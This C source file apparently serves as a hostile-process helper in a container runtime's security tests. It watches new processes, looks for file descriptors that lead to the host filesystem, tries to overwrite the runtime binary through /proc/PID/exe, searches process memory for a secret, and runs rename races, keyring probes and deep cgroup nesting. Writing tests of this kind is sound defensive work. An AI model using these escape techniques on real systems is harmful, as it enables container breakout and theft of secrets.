/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker - what a hostile process of a container does, one verb a run
 *
 *	watch CANARY SECRET   look into each process that appears, and say what of it can be had
 *	swap A B              exchange two names as fast as it goes
 *	descriptors           say what is open
 *	search NAME           look for a key of the session
 *	keyed NAME COMMAND... run a command in a session that has this key
 *	burrow N              make N cgroups, one in another, and go into the last one
 *	rest                  do nothing, until it is killed
 *
 * Linked statically: it has to run in a rootfs without anything else.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

enum { AHEAD = 24, LEVELS = 64, CHUNK = 1 << 16, SAID_MAX = 256, PROC = 0x9fa0 };

/* ---- watch ----------------------------------------------------------------------------- */

static const char *canary; /* of the host, without its first slash */
static const char *secret; /* of the runtime's own memory */

/* Each sentence once. */
static void say(const char *what, const char *detail)
{
	static char said[SAID_MAX][200];
	char line[200];
	int i = 0;

	snprintf(line, sizeof(line), "%s %.150s\n", what, detail);
	for (; i < SAID_MAX && said[i][0]; i++)
		if (strcmp(said[i], line) == 0)
			return;
	if (i < SAID_MAX)
		strcpy(said[i], line);
	if (write(1, line, strlen(line)) < 0)
		exit(1);
}

/* Is the host to be seen from this directory, or from one above it? */
static bool leads_to_host(int dir)
{
	int at = dup(dir);
	bool leads = false;

	for (int i = 0; i < LEVELS && at >= 0 && !leads; i++) {
		int up = openat(at, "..", O_PATH | O_DIRECTORY);

		leads = faccessat(at, canary, F_OK, AT_SYMLINK_NOFOLLOW) == 0;
		close(at);
		at = up;
	}
	close(at);
	return leads;
}

static void look_at_link(const char *pid, const char *name)
{
	char path[64], target[PATH_MAX] = "";
	struct statfs fs;
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	if (readlink(path, target, sizeof(target) - 1) < 0)
		return;
	say("link", target);
	fd = open(path, O_PATH);
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
		if (leads_to_host(fd))
			say("HOST", target);
		if (faccessat(fd, "sys/kernel/core_pattern", W_OK, 0) == 0 ||
		    faccessat(fd, "sysrq-trigger", W_OK, 0) == 0)
			say("UNMASKED", target);
		if (fstatfs(fd, &fs) == 0 && fs.f_type == PROC)
			say("procfs", target);
	}
	close(fd);
}

static void look_at_fds(const char *pid)
{
	char path[300];
	struct dirent *entry;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	d = opendir(path);
	if (!d)
		return;
	while ((entry = readdir(d))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "fd/%.20s", entry->d_name);
		look_at_link(pid, path);
	}
	closedir(d);
}

/* By a descriptor of what it executes, which outlives the process. */
static void write_program(const char *pid)
{
	char path[64], target[200] = "";
	int fd, again;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (readlink(path, target, sizeof(target) - 1) > 0)
		say("program", target);
	for (int i = 0; i < 50; i++) {
		again = open(path, O_WRONLY);
		if (again < 0)
			continue;
		say(write(again, "#!/attacker", 11) > 0 ? "WRITTEN" : "opened", target);
		close(again);
		break;
	}
	close(fd);
}

static void search_part(int mem, unsigned long from, unsigned long to, const char *where)
{
	static char chunk[CHUNK + 64];

	for (; from < to; from += CHUNK) {
		size_t n = to - from < CHUNK ? to - from : CHUNK;
		ssize_t got = pread(mem, chunk, n, (off_t)from);

		if (got > 0 && memmem(chunk, (size_t)got, secret, strlen(secret)))
			say("SECRET", where);
	}
}

static void search_memory(const char *pid)
{
	unsigned long from, to;
	char path[64], line[512];
	FILE *maps;
	int mem;

	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	mem = open(path, O_RDWR);
	if (mem < 0)
		return;
	say("memory", "of a process");
	snprintf(path, sizeof(path), "/proc/%s/maps", pid);
	maps = fopen(path, "r");
	while (maps && fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx", &from, &to) == 2 && to - from < 64ul << 20)
			search_part(mem, from, to, line);
	if (maps)
		fclose(maps);
	close(mem);
}

static void look_at(const char *pid)
{
	look_at_fds(pid);
	look_at_link(pid, "cwd");
	look_at_link(pid, "root");
	write_program(pid);
	search_memory(pid);
}

/* Pids are given out one after the other, so it is known which comes next. */
static int do_watch(char **args)
{
	int last = getpid();

	canary = args[0] + 1;
	secret = args[1];
	say("watching", "");
	while (access("/proc/self", F_OK) == 0) {
		for (int pid = last > AHEAD ? last - AHEAD : 2; pid <= last + AHEAD; pid++) {
			char name[16], path[32];

			if (pid == getpid())
				continue;
			snprintf(name, sizeof(name), "%d", pid);
			snprintf(path, sizeof(path), "/proc/%d", pid);
			if (access(path, F_OK) < 0)
				continue;
			if (pid > last)
				last = pid;
			look_at(name);
		}
	}
	return 1;
}

/* ---- the others ------------------------------------------------------------------------ */

/* With a pause, or the kernel's lock for renames keeps the whole machine from its work. */
static int do_swap(char **args)
{
	const struct timespec pause = {.tv_nsec = 20000};

	prctl(PR_SET_TIMERSLACK, 1);
	while (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) == 0 ||
	       errno == ENOENT)
		nanosleep(&pause, NULL);
	return 1;
}

static int do_descriptors(char **args)
{
	(void)args;
	for (int fd = 0; fd < 1024; fd++) {
		char path[40], target[PATH_MAX];
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		if (n > 0)
			printf("%d %.*s\n", fd, (int)n, target);
	}
	return 0;
}

static int do_search(char **args)
{
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", args[0], 0);

	puts(key < 0 ? "no key" : "found the key");
	return 0;
}

static int do_keyed(char **args)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", args[0], "payload", 7, KEY_SPEC_SESSION_KEYRING) < 0) {
		perror("keys");
		return 1;
	}
	execvp(args[1], args + 1);
	return 1;
}

static int do_burrow(char **args)
{
	int n = atoi(args[0]), fd;

	for (int i = 0; i < n; i++)
		if (mkdir("a-cgroup-with-a-name-that-is-not-short", 0755) < 0 ||
		    chdir("a-cgroup-with-a-name-that-is-not-short") < 0) {
			perror("cgroup");
			return 1;
		}
	fd = open("cgroup.procs", O_WRONLY);
	if (fd < 0 || write(fd, "0", 1) != 1) {
		perror("cgroup.procs");
		return 1;
	}
	puts("there");
	fflush(stdout);
	for (;;)
		pause();
}

static int do_rest(char **args)
{
	(void)args;
	while (pause() < 0)
		;
	return 0;
}

static const struct {
	const char *name;
	int (*verb)(char **args);
	int n_args;
} verbs[] = {
	{"watch", do_watch, 2},   {"swap", do_swap, 2},   {"descriptors", do_descriptors, 0},
	{"search", do_search, 1}, {"keyed", do_keyed, 2}, {"burrow", do_burrow, 1},
	{"rest", do_rest, 0},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (strcmp(argv[1], verbs[i].name) == 0 && argc - 2 >= verbs[i].n_args)
			return verbs[i].verb(argv + 2);
	fprintf(stderr, "what shall I do?\n");
	return 1;
}
